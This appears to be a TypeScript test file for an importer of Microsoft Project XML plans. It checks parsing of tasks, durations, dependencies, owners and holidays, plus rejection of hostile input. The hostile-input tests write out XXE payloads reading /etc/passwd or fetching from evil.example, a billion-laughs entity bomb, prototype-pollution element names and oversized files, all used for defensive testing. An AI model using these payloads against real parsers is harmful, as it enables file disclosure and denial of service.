/**
 * readMspdi on documents built here: outline (summary tasks as phases or comments), milestones,
 * durations, finish-to-start links and the others kept as comments, owners from assignments, the
 * team, calendar exceptions; and hostile input (XXE, billion laughs, truncated, garbage, not MSPDI).
 */
import * as assert from 'assert';
import type { ImportedPlan, ImportNote } from '../core/import/types';
import { readMspdi } from './mspdi';
import { decodeXmlText, parseXml } from './mspdi-xml';

interface T {
  uid: number;
  id?: number;
  name: string;
  level?: number;
  summary?: boolean;
  milestone?: boolean;
  duration?: string;
  format?: number;
  start?: string;
  finish?: string;
  pct?: number;
  links?: { uid: number; type?: number; lag?: number; lagFormat?: number }[];
}

const taskXml = (t: T) =>
  [
    '<Task>',
    `<UID>${t.uid}</UID>`,
    `<ID>${t.id ?? t.uid}</ID>`,
    `<Name>${t.name}</Name>`,
    `<OutlineLevel>${t.level ?? 1}</OutlineLevel>`,
    t.start ? `<Start>${t.start}T08:00:00</Start>` : '',
    t.finish ? `<Finish>${t.finish}T17:00:00</Finish>` : '',
    t.duration ? `<Duration>${t.duration}</Duration>` : '',
    `<DurationFormat>${t.format ?? 7}</DurationFormat>`,
    `<Milestone>${t.milestone ? 1 : 0}</Milestone>`,
    `<Summary>${t.summary ? 1 : 0}</Summary>`,
    t.pct !== undefined ? `<PercentComplete>${t.pct}</PercentComplete>` : '',
    ...(t.links ?? []).map(
      (l) => `<PredecessorLink><PredecessorUID>${l.uid}</PredecessorUID><Type>${l.type ?? 1}</Type><LinkLag>${l.lag ?? 0}</LinkLag><LagFormat>${l.lagFormat ?? 7}</LagFormat></PredecessorLink>`,
    ),
    '</Task>',
  ].join('');

const STANDARD_WEEK = [1, 2, 3, 4, 5, 6, 7].map((d) => `<WeekDay><DayType>${d}</DayType><DayWorking>${d === 1 || d === 7 ? 0 : 1}</DayWorking></WeekDay>`).join('');

const exception = (from: string, to: string, working: boolean) =>
  `<Exception><EnteredByOccurrences>0</EnteredByOccurrences><TimePeriod><FromDate>${from}T00:00:00</FromDate><ToDate>${to}T23:59:00</ToDate></TimePeriod><Occurrences>1</Occurrences><Name>x</Name><Type>1</Type><DayWorking>${working ? 1 : 0}</DayWorking></Exception>`;

function mspdi(tasks: T[], extra: { week?: string; exceptions?: string; resources?: string; assignments?: string; header?: string } = {}): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Project xmlns="http://schemas.microsoft.com/project">
  <SaveVersion>14</SaveVersion><Name>bank.xml</Name><Title>某银行数据平台实施 &amp; 培训</Title>${extra.header ?? ''}
  <StartDate>2027-03-01T08:00:00</StartDate><FinishDate>2027-03-19T17:00:00</FinishDate>
  <CalendarUID>1</CalendarUID><MinutesPerDay>480</MinutesPerDay>
  <Calendars>
    <Calendar><UID>3</UID><Name>资源日历</Name><IsBaseCalendar>0</IsBaseCalendar><BaseCalendarUID>1</BaseCalendarUID>
      <Exceptions>${exception('2027-03-15', '2027-03-15', false)}</Exceptions></Calendar>
    <Calendar><UID>1</UID><Name>标准</Name><IsBaseCalendar>1</IsBaseCalendar><BaseCalendarUID>-1</BaseCalendarUID>
      <WeekDays>${extra.week ?? STANDARD_WEEK}</WeekDays>
      <Exceptions>${extra.exceptions ?? exception('2027-03-08', '2027-03-08', false) + exception('2027-03-10', '2027-03-11', false) + exception('2027-03-13', '2027-03-13', true) + exception('2027-03-12', '2027-03-12', true)}</Exceptions>
    </Calendar>
  </Calendars>
  <Tasks>
    <Task><UID>0</UID><ID>0</ID><Name>某银行数据平台实施</Name><OutlineLevel>0</OutlineLevel><Summary>1</Summary></Task>
    ${tasks.map(taskXml).join('\n    ')}
  </Tasks>
  <Resources>${extra.resources ?? ''}</Resources>
  <Assignments>${extra.assignments ?? ''}</Assignments>
</Project>`;
}

const resource = (uid: number, name: string, type = 1) => `<Resource><UID>${uid}</UID><ID>${uid}</ID><Name>${name}</Name><Type>${type}</Type></Resource>`;
const assignment = (uid: number, task: number, res: number, units = 1) => `<Assignment><UID>${uid}</UID><TaskUID>${task}</TaskUID><ResourceUID>${res}</ResourceUID><Units>${units}</Units></Assignment>`;

const TASKS: T[] = [
  { uid: 1, name: '项目启动', summary: true },
  { uid: 2, name: '启动会', level: 2, duration: 'PT8H0M0S', start: '2027-03-01', finish: '2027-03-01', pct: 100 },
  { uid: 3, name: '第二阶段工作', summary: true },
  { uid: 4, name: '环境部署', level: 2, duration: 'PT24H0M0S', start: '2027-03-02', finish: '2027-03-04', pct: 50, links: [{ uid: 2 }] },
  { uid: 5, name: '数据接入', level: 2, duration: 'PT12H0M0S', start: '2027-03-05', finish: '2027-03-09', links: [{ uid: 4 }] },
  { uid: 6, name: '报表开发', level: 2, duration: 'PT20H0M0S', start: '2027-03-04', finish: '2027-03-09', links: [{ uid: 4, type: 3, lag: 9600 }] },
  { uid: 7, name: '基础版上线', milestone: true, duration: 'PT0H0M0S', start: '2027-03-09', finish: '2027-03-09', links: [{ uid: 5 }, { uid: 6 }, { uid: 99 }] },
  { uid: 8, name: '试运行观察', duration: 'PT48H0M0S', format: 8, start: '2027-03-09', finish: '2027-03-11', links: [{ uid: 7 }] },
  { uid: 9, name: '文档整理', duration: 'PT10H0M0S', start: '2027-03-16', finish: '2027-03-17' },
];

const RESOURCES = `<Resource><UID>0</UID><ID>0</ID><Type>1</Type></Resource>${resource(1, '张三')}${resource(2, 'Li Lei')}${resource(3, '服务器', 0)}`;
const ASSIGNMENTS = [assignment(1, 2, 1), assignment(2, 4, 2), assignment(3, 5, 1, 0.5), assignment(4, 5, 2, 1), assignment(5, 6, 3), assignment(6, 9, -65535)].join('');

const byId = (p: ImportedPlan, id: string) => {
  const t = p.tasks.find((x) => x.id === id);
  assert.ok(t, `task ${id} in ${p.tasks.map((x) => x.id).join(', ')}`);
  return t;
};
const notesAt = (p: ImportedPlan, where: string) => p.notes.filter((n) => n.where.en === where);
const errors = (p: ImportedPlan) => p.notes.filter((n) => n.severity === 'error');
const onlyError = (p: ImportedPlan): ImportNote => {
  const e = errors(p);
  assert.strictEqual(e.length, 1, JSON.stringify(p.notes));
  assert.strictEqual(p.tasks.length, 0);
  return e[0];
};

describe('import: Microsoft Project XML (readMspdi)', () => {
  const plan = readMspdi(mspdi(TASKS, { resources: RESOURCES, assignments: ASSIGNMENTS }), '某银行 Bank-Plan.xml', {});

  it('reads the header: plan id from the file name, title, start, end', () => {
    assert.strictEqual(plan.kind, 'project');
    assert.strictEqual(plan.id, 'bank-plan');
    assert.strictEqual(plan.title, '某银行数据平台实施 & 培训');
    assert.strictEqual(plan.start, '2027-03-01');
    assert.strictEqual(plan.end, '2027-03-19');
    assert.strictEqual(plan.source.format, 'mspdi');
    assert.deepStrictEqual(errors(plan), []);
  });

  it('drops the project summary and summary tasks: a phase when the name maps, else a comment above the first task', () => {
    assert.deepStrictEqual(
      plan.tasks.map((t) => t.id),
      ['T2', 'T4', 'T5', 'T6', 'T7', 'T8', 'T9'],
    );
    assert.strictEqual(byId(plan, 'T2').phase, 'kickoff');
    assert.strictEqual(byId(plan, 'T4').phase, undefined);
    assert.deepStrictEqual(byId(plan, 'T4').comments, ['阶段：第二阶段工作']);
    assert.deepStrictEqual(byId(plan, 'T4').commentsEn, ['Phase: 第二阶段工作']);
    assert.deepStrictEqual(byId(plan, 'T5').comments.filter((c) => c.startsWith('阶段')), []);
    const info = plan.notes.find((n) => n.severity === 'info' && /summary/.test(n.message.en))!;
    assert.ok(info, JSON.stringify(plan.notes));
    assert.match(info.message.en, /^2 summary tasks were dropped: 1 became the phase .*, 1 a comment/);
    assert.match(info.message.zh, /已去掉 2 个摘要任务/);
  });

  it('durations at MinutesPerDay as working days, milestones, progress and status, source dates', () => {
    const t2 = byId(plan, 'T2');
    assert.deepStrictEqual([t2.duration, t2.milestone, t2.progress, t2.status, t2.sourceStart, t2.sourceEnd], [1, undefined, 100, 'done', '2027-03-01', '2027-03-01']);
    const t4 = byId(plan, 'T4');
    assert.deepStrictEqual([t4.duration, t4.progress, t4.status], [3, 50, 'doing']);
    assert.strictEqual(byId(plan, 'T5').duration, 1.5);
    assert.strictEqual(byId(plan, 'T6').duration, 2.5);
    const m = byId(plan, 'T7');
    assert.deepStrictEqual([m.milestone, m.duration], [true, 0]);
    // At 08:00 it keeps its date.
    assert.deepStrictEqual([m.sourceStart, m.sourceEnd], ['2027-03-09', '2027-03-09']);
    assert.strictEqual(byId(plan, 'T9').duration, 1.5);
    assert.strictEqual(byId(plan, 'T9').source.en, 'UID 9');
    // 10 hours = 1.25 days, rounded to half a day: noted.
    const rounded = notesAt(plan, '<Task> UID 9');
    assert.strictEqual(rounded.length, 1);
    assert.strictEqual(rounded[0].severity, 'info');
    assert.match(rounded[0].message.en, /1\.25 working days\) was rounded to 1\.5/);
    // An elapsed duration (48 hours, "ed") is two 24-hour days: a warning.
    assert.strictEqual(byId(plan, 'T8').duration, 2);
    const elapsed = notesAt(plan, '<Task> UID 8');
    assert.strictEqual(elapsed.length, 1);
    assert.strictEqual(elapsed[0].severity, 'warning');
    assert.match(elapsed[0].message.en, /elapsed duration/);
    assert.match(elapsed[0].message.zh, /按日历天计/);
  });

  it('finish-to-start links are dependsOn; a start-to-start link with lag is a comment and a warning; an unknown UID is a warning', () => {
    assert.deepStrictEqual(byId(plan, 'T2').dependsOn, []);
    assert.deepStrictEqual(byId(plan, 'T4').dependsOn, ['T2']);
    assert.deepStrictEqual(byId(plan, 'T5').dependsOn, ['T4']);
    assert.deepStrictEqual(byId(plan, 'T6').dependsOn, []);
    assert.deepStrictEqual(byId(plan, 'T6').comments, ['原计划：开始-开始 T4，延隔 2 个工作日']);
    assert.deepStrictEqual(byId(plan, 'T6').commentsEn, ['In the source: start-to-start T4, lag 2 working days']);
    const ss = notesAt(plan, '<Task> UID 6');
    assert.strictEqual(ss.length, 1);
    assert.strictEqual(ss[0].severity, 'warning');
    assert.match(ss[0].message.zh, /开始-开始 T4，延隔 2 个工作日不是完成-开始依赖/);
    assert.deepStrictEqual(byId(plan, 'T7').dependsOn, ['T5', 'T6']);
    const unknown = notesAt(plan, '<Task> UID 7');
    assert.strictEqual(unknown.length, 1);
    assert.match(unknown[0].message.en, /predecessor UID 99 that is no task/);
  });

  it('owners: the work resource with the largest Units; the others a comment; team from the work resources', () => {
    assert.deepStrictEqual(plan.team, [
      { id: 'zhangsan', name: '张三' },
      { id: 'li-lei', name: 'Li Lei' },
    ]);
    assert.strictEqual(byId(plan, 'T2').owner, 'zhangsan');
    assert.strictEqual(byId(plan, 'T4').owner, 'li-lei');
    assert.strictEqual(byId(plan, 'T5').owner, 'li-lei');
    assert.ok(byId(plan, 'T5').comments.includes('其他资源：张三'), JSON.stringify(byId(plan, 'T5').comments));
    // A material resource and the "unassigned" resource own nothing.
    assert.strictEqual(byId(plan, 'T6').owner, undefined);
    assert.strictEqual(byId(plan, 'T9').owner, undefined);
  });

  it('calendar: the project calendar\'s non-working exceptions are holidays, a working Saturday a workday (a working weekday nothing)', () => {
    assert.deepStrictEqual(plan.holidays, ['2027-03-08', '2027-03-10..2027-03-11']);
    assert.deepStrictEqual(plan.workdays, ['2027-03-13']);
    assert.ok(!plan.notes.some((n) => n.where.en.startsWith('<Calendar>')), JSON.stringify(plan.notes));
  });

  it('a working week other than Monday–Friday is a warning', () => {
    const week = STANDARD_WEEK.replace('<DayType>7</DayType><DayWorking>0</DayWorking>', '<DayType>7</DayType><DayWorking>1</DayWorking>');
    const p = readMspdi(mspdi(TASKS.slice(0, 2), { week }), 'x.xml', {});
    const w = notesAt(p, '<Calendar> UID 1');
    assert.strictEqual(w.length, 1);
    assert.strictEqual(w[0].severity, 'warning');
    assert.match(w[0].message.en, /Saturday working/);
    assert.match(w[0].message.zh, /周六上班/);
  });

  it('POC phases for --kind poc; a link to a summary task applies to every task under it', () => {
    const tasks: T[] = [
      { uid: 1, name: '情报收集', summary: true },
      { uid: 2, name: '客户调研', level: 2, duration: 'PT8H0M0S' },
      { uid: 3, name: '访谈', level: 2, duration: 'PT8H0M0S' },
      { uid: 4, name: '设计演示流程并预演', summary: true, links: [{ uid: 1 }] },
      { uid: 5, name: '演示脚本', level: 2, duration: 'PT8H0M0S' },
      { uid: 6, name: '产品演示', summary: true },
      { uid: 7, name: '现场演示', level: 2, duration: 'PT8H0M0S', links: [{ uid: 4 }] },
    ];
    const p = readMspdi(mspdi(tasks), 'poc.xml', { kind: 'poc' });
    assert.strictEqual(p.kind, 'poc');
    assert.deepStrictEqual(p.tasks.map((t) => [t.id, t.phase, t.dependsOn]), [
      ['T2', 'intelligence', []],
      ['T3', 'intelligence', []],
      ['T5', 'rehearsal', ['T2', 'T3']],
      ['T7', 'demo', ['T5']],
    ]);
  });

  it('a milestone at the end of a working day is dated the next working day (holidays skipped), as the plan schedules it', () => {
    const xml = mspdi([{ uid: 1, name: '验收', milestone: true, duration: 'PT0H0M0S' }]).replace('<Name>验收</Name>', '<Name>验收</Name><Start>2027-03-09T17:00:00</Start><Finish>2027-03-09T17:00:00</Finish>');
    const [m] = readMspdi(xml, 'm.xml', {}).tasks;
    // 03-10 and 03-11 are holidays of the calendar: Friday 03-12.
    assert.deepStrictEqual([m.sourceStart, m.sourceEnd], ['2027-03-12', '2027-03-12']);
  });

  it('decodes the five XML entities and numeric references, nothing else', () => {
    assert.strictEqual(decodeXmlText('a &amp; b &lt;c&gt; &quot;&apos; &#x4E2D;&#25991; &nbsp; &x;'), 'a & b <c> "\' 中文 &nbsp; &x;');
  });
});

describe('import: hostile Microsoft Project XML', () => {
  const task = '<Tasks><Task><UID>1</UID><ID>1</ID><Name>&x;</Name><Duration>PT8H0M0S</Duration></Task></Tasks>';

  it('an external entity (file:) is refused, never resolved', () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE Project [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<Project>${task}</Project>`;
    const p = readMspdi(xml, 'xxe.xml', {});
    const e = onlyError(p);
    assert.deepStrictEqual(e.where, { en: '<!ENTITY x>', zh: '<!ENTITY x>' });
    assert.match(e.message.en, /external entity/);
    assert.match(e.message.zh, /外部实体/);
    assert.ok(!JSON.stringify(p).includes('root:'), 'no content of /etc/passwd');
  });

  it('an external entity (http, PUBLIC) and a parameter entity are refused, nothing fetched', () => {
    for (const decl of ['<!ENTITY x SYSTEM "http://evil.example/xxe">', '<!ENTITY x PUBLIC "-//evil//x" "http://evil.example/xxe">', '<!ENTITY % x SYSTEM "http://evil.example/p.dtd"> %x;']) {
      const p = readMspdi(`<?xml version="1.0"?><!DOCTYPE Project [${decl}]><Project>${task}</Project>`, 'xxe.xml', {});
      const e = onlyError(p);
      assert.match(e.where.en, /^<!ENTITY (% )?x>$/, decl);
      assert.match(e.message.en, /external entity/, decl);
    }
  });

  it('billion laughs: refused at once', () => {
    const levels = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?><!DOCTYPE lolz [${levels.join('')}]><Project><Tasks><Task><UID>1</UID><Name>&lol9;</Name></Task></Tasks></Project>`;
    const p = readMspdi(xml, 'lol.xml', {});
    const e = onlyError(p);
    assert.strictEqual(e.where.en, '<!ENTITY lol>');
    assert.match(e.message.en, /declares its own entities/);
    assert.ok(JSON.stringify(p).length < 5000);
  });

  it('the parser itself expands no declared entity (the second line of defence)', () => {
    const r = parseXml('<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY y "zzz">]><Project><Name>&y;</Name></Project>');
    assert.ok(!r.ok);
    assert.deepStrictEqual(r.notes.map((n) => [n.severity, n.where.en]), [['error', '<!DOCTYPE>']]);
    const ext = parseXml('<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY y SYSTEM "file:///etc/passwd">]><Project><Name>&y;</Name></Project>');
    assert.ok(!ext.ok);
    // Without a DOCTYPE an unknown entity stays text; an external DTD is never read.
    const plain = parseXml('<?xml version="1.0"?><!DOCTYPE Project SYSTEM "http://evil.example/x.dtd"><Project><Name>&y; &amp;</Name></Project>');
    assert.ok(plain.ok);
    assert.deepStrictEqual(plain.root, { Project: { Name: '&y; &' } });
  });

  it('truncated XML, garbage, binary, an empty file: one error note each, no throw', () => {
    const full = mspdi(TASKS);
    for (const [name, text] of [
      ['truncated', full.slice(0, Math.floor(full.length / 2))],
      ['garbage', 'hello, this is not XML { "a": 1 }'],
      ['binary', 'PK\u0003\u0004\u0000\u0000\u0008\u0000'],
      ['empty', ''],
    ]) {
      const p = readMspdi(text, `${name}.xml`, {});
      const e = onlyError(p);
      assert.ok(e.message.en && e.message.zh, name);
    }
  });

  it('XML that is not MSPDI: no <Project> root, or no <Tasks>', () => {
    const a = onlyError(readMspdi('<?xml version="1.0"?><html><body>x</body></html>', 'a.xml', {}));
    assert.match(a.message.en, /root element is not <Project>/);
    const b = onlyError(readMspdi('<?xml version="1.0"?><Project><Name>x</Name></Project>', 'b.xml', {}));
    assert.match(b.message.en, /no <Tasks>/);
    assert.strictEqual(b.where.en, '<Project>');
  });

  it('nesting beyond 64 levels and prototype-polluting element names: an error note, nothing polluted', () => {
    const deep = `<Project><Tasks>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</Tasks></Project>`;
    assert.match(onlyError(readMspdi(deep, 'deep.xml', {})).message.en, /nested/);
    for (const name of ['__proto__', 'constructor']) {
      const xml = `<Project><Tasks><Task><UID>1</UID><Name>x</Name><${name}><polluted>1</polluted></${name}></Task></Tasks></Project>`;
      onlyError(readMspdi(xml, 'proto.xml', {}));
      assert.strictEqual(({} as Record<string, unknown>).polluted, undefined);
    }
  });

  it('more than 20,000 tasks are refused with a note', () => {
    const many = Array.from({ length: 20_001 }, (_, i) => `<Task><UID>${i + 1}</UID></Task>`).join('');
    const e = onlyError(readMspdi(`<Project><Tasks>${many}</Tasks></Project>`, 'big.xml', {}));
    assert.match(e.message.en, /20001 tasks; at most 20000/);
  });

  it('more than 50 MB is refused before parsing', () => {
    const e = onlyError(readMspdi(`<Project><Tasks>${' '.repeat(50 * 1024 * 1024)}</Tasks></Project>`, 'huge.xml', {}));
    assert.match(e.message.en, /too large/);
  });
});
